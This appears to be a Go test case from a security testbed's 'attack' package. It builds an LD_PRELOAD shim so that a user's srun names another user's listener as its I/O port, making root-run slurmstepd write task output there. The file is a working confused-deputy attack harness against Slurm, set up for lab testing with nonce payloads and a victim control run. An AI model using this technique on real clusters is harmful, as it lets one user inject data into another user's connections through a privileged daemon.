package attack

import (
	"context"
	_ "embed"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"time"
)

//go:embed testdata/srun_port_shim.c
var srunPortShim []byte

// The testbed's SrunPortRange (lab/testbed/config.go).
const srunFirst, srunLast = 61000, 62999

// slurmDeputy is the slurmstepd deputy with real Slurm: bob's own srun, with
// an LD_PRELOAD shim, names alice's listener as its I/O port; slurmstepd on
// the step's node — real uid root, effective bob — connects there and writes
// bob's task output.
func slurmDeputy() *Case {
	return &Case{Name: "deputy-slurmstepd-srun-io-cross", Class: "identity",
		Why: "bob's srun (LD_PRELOAD: every SrunPortRange port but alice's is 'busy') names alice's listener as its I/O port; slurmstepd on the other node, root acting for bob after seteuid, connects to it and writes bob's task output",
		Run: func(e *Env, r *Run) error {
			cc, err := exec.LookPath("cc")
			if err != nil {
				r.NA = "no C compiler for the LD_PRELOAD shim"
				return nil
			}
			dir, err := os.MkdirTemp("", "palshim")
			if err != nil {
				return err
			}
			r.Defer(func() { os.RemoveAll(dir) })
			so := filepath.Join(dir, "shim.so")
			src := filepath.Join(dir, "shim.c")
			if err := os.WriteFile(src, srunPortShim, 0o644); err != nil {
				return err
			}
			if out, err := exec.CommandContext(e.Ctx, cc, "-O2", "-shared", "-fPIC", "-o", so, src, "-ldl").CombinedOutput(); err != nil {
				return fmt.Errorf("building the shim: %v: %s", err, out)
			}
			if err := os.Chmod(dir, 0o755); err != nil {
				return err
			}
			port := srunFirst + e.Port%(srunLast-srunFirst)
			s, err := e.Sink(r, e.A.Name, Victim, SinkSpec{Sock: Sock{Proto: "tcp", Family: 4, Bind: ap(wild(4), port)}})
			if err != nil {
				return err
			}
			// Both sruns run until the control's output has arrived (its
			// launch response went to the sink too, so srun never ends by
			// itself), then stop.
			ctx, cancel := context.WithTimeout(e.Ctx, 40*time.Second)
			var cmds []*exec.Cmd
			r.Defer(func() {
				cancel()
				for _, c := range cmds {
					c.Wait()
				}
			})
			run := func(user string, list *[]*Step) error {
				st := &Step{Sink: s, Node: e.A.Name, User: user, Nonce: newNonce(),
					Desc: fmt.Sprintf("srun -w %s (its I/O port named as alice's %d) echo nonce", e.B.Name, port)}
				*list = append(*list, st)
				c := e.TB.Command(ctx, e.A.Name, user, "env", "LD_PRELOAD="+so, fmt.Sprintf("PAL_FAKE_PORT=%d", port),
					fmt.Sprintf("PAL_RANGE_FIRST=%d", srunFirst), fmt.Sprintf("PAL_RANGE_LAST=%d", srunLast),
					"srun", "-N1", "-w", e.B.Name, "--quiet", "echo", strings.TrimSpace(string(Payload(st.Nonce))))
				c.WaitDelay = 2 * time.Second
				if err := c.Start(); err != nil {
					return err
				}
				cmds = append(cmds, c)
				return nil
			}
			if err := run(Attacker, &r.Attacks); err != nil {
				return err
			}
			if err := run(Victim, &r.Controls); err != nil {
				return err
			}
			if !s.Got(r.Controls[0].Nonce, 30*time.Second) {
				r.Note("alice's own task output never reached her listener through slurmstepd")
			}
			return nil
		}}
}
